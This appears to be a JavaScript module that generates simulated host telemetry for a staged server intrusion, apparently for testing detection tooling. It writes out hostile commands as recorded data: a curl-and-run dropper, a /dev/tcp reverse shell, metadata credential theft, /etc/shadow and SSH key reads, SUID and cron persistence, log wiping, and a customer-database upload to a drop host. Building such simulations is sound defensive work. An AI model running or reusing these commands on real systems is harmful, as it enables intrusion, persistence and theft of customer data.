// The intrusion, step by step: a web shell becomes a foothold, the foothold root, and root takes the customers' data.

import { at } from "./record-host.mjs";

const ATTACKER = "203.0.113.66";
const CONTROL = "198.51.100.23";
const DROP = "203.0.113.150";

/** Records all of it on `host`, a recording, with the services of `startServices`. */
export function intrusion(host, services) {
  const { accept, become, connect, file, fork, login, run } = host;
  const { systemd, cron, sshd, web, pool } = services;
  const shell = foothold();
  const root = escalation(shell);
  persistence(root);
  evasion(root);
  spread(root);
  theft(root);

  function foothold() {
    const [, , worker] = pool;
    accept(at(6, 12.2), web[1], ATTACKER, 443);
    file(at(6, 14.31), worker, "creation", "/var/www/shop/public/media/été-2026.php");
    accept(at(6, 31.1), web[1], ATTACKER, 443);
    const command = (time, line, life) => run(time, worker, "/usr/bin/dash", ["sh", "-c", line], { life });
    run(at(6, 31.41), command(at(6, 31.4), "id", 0.05), "/usr/bin/id", "id", { life: 0.01 });

    const tour = ["whoami", "uname -a", "hostname", "cat /etc/passwd", "ps aux", "ip addr"];
    const guide = command(at(6, 52.7), tour.join("; "), 0.4);
    tour.forEach((line, i) => {
      run(at(6, 52.72 + i * 0.05), guide, `/usr/bin/${line.split(" ")[0]}`, line, { life: 0.02 });
    });

    const implant = "/tmp/.kworkerd";
    const fetch = `curl -fsSL http://cdn.example.net/pkg/kworkerd -o ${implant}`;
    const dropper = command(at(7, 40.2), `${fetch}; chmod 755 ${implant}; ${implant}`, 2.4);
    const curl = run(at(7, 40.21), dropper, "/usr/bin/curl", fetch, { life: 1.2 });
    connect(at(7, 40.3), curl, CONTROL, 80);
    file(at(7, 41.1), curl, "creation", implant);
    run(at(7, 41.5), dropper, "/usr/bin/chmod", `chmod 755 ${implant}`, { life: 0.01 });
    const agent = run(at(7, 41.6), dropper, implant, implant);
    file(at(7, 42.4), agent, "deletion", implant);
    for (const minute of [7, 17, 27]) connect(at(minute, 43.2), agent, CONTROL, 443);

    // The first line reaches the file after the two that follow from it.
    const line = ["bash", "-c", `exec bash -i >& /dev/tcp/${CONTROL}/4443 0>&1`];
    const reverse = run(at(9, 5.2), agent, "/usr/bin/bash", line, { delay: 9e5 });
    connect(at(9, 5.21), reverse, CONTROL, 4443);
    const first = become(at(9, 5.35), reverse, "/usr/bin/bash", "bash -i");
    const python = run(at(9, 31), first, "/usr/bin/python3.11", [
      "python3",
      "-c",
      "import pty; pty.spawn('/bin/bash')",
    ]);
    return run(at(9, 31.2), python, "/usr/bin/bash", "/bin/bash");
  }

  function escalation(shell) {
    const type = (minute, second, executable, args, life = 0.05) =>
      run(at(minute, second), shell, executable, args, { life });
    type(10, 2, "/usr/bin/ls", "ls -la /var/www/shop");
    type(10, 15, "/usr/bin/cat", "cat /var/www/shop/.env");
    run(at(10, 40), shell, "/usr/bin/sudo", "sudo -n -l", { user: "root", life: 0.1, exit: 1 });
    const role = "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/";
    const curl = type(11, 20, "/usr/bin/curl", role, 2);
    connect(at(11, 20.1), curl, "169.254.169.254", 80);
    type(12, 1, "/usr/bin/find", "find / -perm -4000 -type f", 14);
    type(13, 2, "/usr/bin/ls", "ls -l /usr/local/bin/shopctl");
    type(13, 30, "/usr/bin/strings", "strings /usr/local/bin/shopctl", 0.2);

    const helper = run(at(14, 20.1), shell, "/usr/local/bin/shopctl", ["shopctl", "logs", "--pager", "/bin/bash -p"], {
      user: "root",
    });
    const root = run(at(14, 20.3), helper, "/usr/bin/bash", "/bin/bash -p");
    const as = (minute, second, executable, args) => run(at(minute, second), root, executable, args, { life: 0.05 });
    as(14, 28, "/usr/bin/id", "id");
    as(15, 3, "/usr/bin/cat", "cat /etc/shadow");
    run(at(15, 40), root, "/usr/bin/find", "find /home /root -name id_ed25519* -type f", { life: 0.3 });
    const copy = as(16, 2, "/usr/bin/cp", "cp /home/alice/.ssh/id_ed25519 /dev/shm/.k");
    file(at(16, 2.02), copy, "creation", "/dev/shm/.k");
    as(16, 9, "/usr/bin/chmod", "chmod 600 /dev/shm/.k");
    return root;
  }

  function persistence(root) {
    const as = (minute, second, executable, args, life = 0.05) =>
      run(at(minute, second), root, executable, args, { life });
    file(at(17, 5), root, "creation", "/etc/cron.d/php-sessionclean");
    const copy = as(17, 20, "/usr/bin/cp", "cp /bin/bash /usr/lib/x86_64-linux-gnu/.libaudit-helper");
    file(at(17, 20.02), copy, "creation", "/usr/lib/x86_64-linux-gnu/.libaudit-helper");
    as(17, 24, "/usr/bin/chmod", "chmod u+s /usr/lib/x86_64-linux-gnu/.libaudit-helper");
    file(at(17, 58), root, "creation", "/etc/systemd/system/kworkerd.service");
    as(18, 6, "/usr/bin/systemctl", "systemctl daemon-reload", 0.5);
    as(18, 9, "/usr/bin/systemctl", "systemctl enable --now kworkerd.service", 0.5);
    const service = run(at(18, 9.3), systemd, "/usr/lib/kworkerd/kworkerd", "/usr/lib/kworkerd/kworkerd -q");
    connect(at(18, 9.9), service, CONTROL, 443);
    file(at(18, 40), root, "modification", "/root/.ssh/authorized_keys");
    const tee = as(19, 1, "/usr/bin/tee", "tee /etc/sudoers.d/90-shop");
    file(at(19, 1.02), tee, "creation", "/etc/sudoers.d/90-shop");

    // The planted cron entry comes alive every ten minutes.
    for (const minute of [20, 30]) {
      const job = fork(at(minute, 1.1), cron);
      const line = `echo Y3VybCAtcyBodHRwOi8vY2RuLmV4YW1wbGUubmV0L2J8c2gK | base64 -d | sh`;
      const shell = run(at(minute, 1.12), job, "/usr/bin/dash", ["/bin/sh", "-c", line], { life: 1.5 });
      run(at(minute, 1.13), shell, "/usr/bin/base64", "base64 -d", { life: 0.02 });
      const inner = run(at(minute, 1.14), shell, "/usr/bin/dash", "sh", { life: 1.4 });
      const curl = run(at(minute, 1.16), inner, "/usr/bin/curl", "curl -s http://cdn.example.net/b", { life: 1.1 });
      connect(at(minute, 1.3), curl, CONTROL, 80);
    }
  }

  function evasion(root) {
    const as = (minute, second, executable, args) => run(at(minute, second), root, executable, args, { life: 0.05 });
    as(21, 4, "/usr/bin/systemctl", "systemctl stop rsyslog.service");
    file(at(21, 12.02), as(21, 12, "/usr/bin/rm", "rm -f /var/log/auth.log"), "deletion", "/var/log/auth.log");
    file(at(21, 19.02), as(21, 19, "/usr/bin/shred", "shred -u /var/log/wtmp"), "deletion", "/var/log/wtmp");
    as(21, 33, "/usr/bin/ln", "ln -sf /dev/null /root/.bash_history");
    // A shipper that writes all keys dotted.
    run(at(21, 47), root, "/usr/bin/touch", "touch -r /usr/bin/ls /etc/cron.d/php-sessionclean", {
      life: 0.05,
      dotted: true,
    });

    as(22, 20, "/usr/sbin/iptables", "iptables -F");
  }

  function spread(root) {
    const as = (minute, second, executable, args, life = 0.05) =>
      run(at(minute, second), root, executable, args, { life });
    const tool = "/dev/shm/.n";
    const curl = as(23, 2, "/usr/bin/curl", `curl -s -o ${tool} http://cdn.example.net/pkg/n`, 0.9);
    connect(at(23, 2.2), curl, CONTROL, 80);
    file(at(23, 2.6), curl, "creation", tool);
    as(23, 8, "/usr/bin/chmod", `chmod 700 ${tool}`);
    const sweep = as(23, 11, tool, `${tool} 10.0.20.0/24 22,3306,6379`, 6);
    for (let i = 0; i < 12; i++) {
      const late = i === 4 ? { delay: 1.1e6 } : {};
      connect(at(23, 11.3 + i * 0.4), sweep, `10.0.20.${5 + i * 5}`, [22, 3306, 6379][i % 3], late);
    }
    // It has ended by now: not the deletion of a running program.
    file(at(23, 40.02), as(23, 40, "/usr/bin/rm", `rm -f ${tool}`), "deletion", tool);
    const hop = as(26, 5, "/usr/bin/ssh", "ssh -i /dev/shm/.k -o StrictHostKeyChecking=no deploy@10.0.20.15", 95);
    connect(at(26, 5.1), hop, "10.0.20.15", 22);
  }

  function theft(root) {
    const as = (minute, second, executable, args, life = 0.05) =>
      run(at(minute, second), root, executable, args, { life });
    const dump = as(28, 50, "/usr/bin/mysqldump", "mysqldump --result-file=/dev/shm/.d.sql shop customers orders", 9);
    connect(at(28, 50.1), dump, "127.0.0.1", 3306);
    file(at(28, 50.3), dump, "creation", "/dev/shm/.d.sql");
    const tar = as(29, 10, "/usr/bin/tar", "tar -czf /dev/shm/.c.tgz /dev/shm/.d.sql /var/www/shop /etc/nginx", 15);
    file(at(29, 10.2), tar, "creation", "/dev/shm/.c.tgz");
    const curl = as(30, 40, "/usr/bin/curl", "curl -s -T /dev/shm/.c.tgz https://drop.example.org/in/", 48);
    connect(at(30, 40.2), curl, DROP, 443);
    const rm = as(32, 12, "/usr/bin/rm", "rm -f /dev/shm/.c.tgz /dev/shm/.d.sql /dev/shm/.k");
    for (const [i, name] of [".c.tgz", ".d.sql", ".k"].entries())
      file(at(32, 12.01 + i * 0.001), rm, "deletion", `/dev/shm/${name}`);

    // The planted key is tried from outside.
    login(at(35, 22), sshd, ATTACKER, "root", "success");
    const door = run(at(35, 22.2), sshd, "/usr/sbin/sshd", ["sshd: root [priv]"]);
    const shell = run(at(35, 22.6), door, "/usr/bin/bash", "-bash", { life: 40 });
    run(at(35, 31), shell, "/usr/bin/systemctl", "systemctl status kworkerd.service", { life: 0.1 });
  }
}
